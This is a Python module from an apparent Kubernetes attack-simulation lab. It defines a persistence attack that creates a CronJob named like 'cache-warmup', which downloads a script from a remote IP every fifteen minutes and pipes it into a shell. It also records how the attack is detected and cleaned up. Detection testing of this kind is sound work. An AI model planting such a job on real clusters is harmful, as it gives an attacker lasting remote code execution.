"""Attack: cron job that calls home.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, cast, context, paths

CARD = base.Card(
    id="cronjob-backdoor",
    title="Cron job that calls home",
    technique=base.Technique(id="T1053.007", name="Container Orchestration Job", tactic="Persistence"),
    use_case=vocabulary.UseCase.PERSISTENCE,
    subtlety=base.Subtlety.OBVIOUS,
    does="Creates a cron job that downloads a script every fifteen minutes and pipes it into a shell.",
    seen_by="A new cron job whose command fetches and runs a script.",
    cleans_up="The cron job is deleted.",
    victim=base.Part.CI,
    catalogues=("Microsoft: Kubernetes CronJob",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.CI)
    thief = ctx.act_as(victim)
    name = ctx.name("cache-warmup")
    namespace = victim.namespaces[0] if victim.namespaces else victim.namespace
    jobs = paths.group("batch/v1", "cronjobs", namespace)
    ctx.remove_later(f"{jobs}/{name}")
    command = ("sh", "-c", "wget -qO- http://203.0.113.77/i.sh | sh")
    yield thief.create(
        jobs, cast.cron_job(name, "docker.io/library/busybox:1.37", schedule="*/15 * * * *", command=command)
    )
    yield thief.get(f"{jobs}/{name}")


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
